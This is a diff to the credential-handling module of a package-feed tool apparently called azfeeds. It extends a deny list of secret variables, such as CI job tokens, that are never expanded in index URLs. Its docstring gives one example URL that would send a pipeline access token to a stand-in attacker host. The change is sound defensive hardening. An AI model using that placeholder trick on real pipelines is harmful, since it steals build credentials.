@@ -19,7 +19,8 @@ already has a credential for it, in a place of its own:
 A placeholder is expanded only where its client expands it. Elsewhere the client sends its
 literal text, which is no credential, so none is taken from it. A placeholder that names a
 variable azfeeds governs more strictly (``AZFEEDS_*``, ``AZURE_*`` with ``AZURE_DEVOPS_EXT_PAT``,
-``SYSTEM_ACCESSTOKEN``, and the identity tokens of steps 4 to 6) is never expanded: a pull request
+``SYSTEM_ACCESSTOKEN``, the identity tokens of steps 4 to 6, and the CI job tokens
+``GITHUB_TOKEN``, ``GH_TOKEN``, ``ACTIONS_RUNTIME_TOKEN``, ``CI_JOB_TOKEN``) is never expanded: a pull request
 could otherwise point ``https://x:${SYSTEM_ACCESSTOKEN}@evil.example/...`` at itself. Such an
 index yields a warning and no credential.
 
@@ -48,7 +49,18 @@ _PIP_VAR_RE = re.compile(r"\$\{([A-Z0-9_]+)\}")  # pip: ${NAME}, NAME in [A-Z0-9
 _ANY_PLACEHOLDER_RE = re.compile(
     r"\$\{[^}]*\}|\$\([^)]*\)|\$[A-Za-z_][A-Za-z0-9_]*|\{env:[^}]*\}|%[A-Za-z_][A-Za-z0-9_]*%"
 )
-_GOVERNED_NAMES = frozenset({"SYSTEM_ACCESSTOKEN", "IDENTITY_HEADER", "MSI_SECRET"})
+_GOVERNED_NAMES = frozenset(
+    {
+        "SYSTEM_ACCESSTOKEN",
+        "IDENTITY_HEADER",
+        "MSI_SECRET",
+        # CI job tokens: never a feed's credential, and a pull request must not collect them
+        "GITHUB_TOKEN",
+        "GH_TOKEN",
+        "ACTIONS_RUNTIME_TOKEN",
+        "CI_JOB_TOKEN",
+    }
+)
 _GOVERNED_PREFIXES = ("AZFEEDS_", "AZURE_", "AZURESUBSCRIPTION_", "ACTIONS_ID_TOKEN_")
 
 
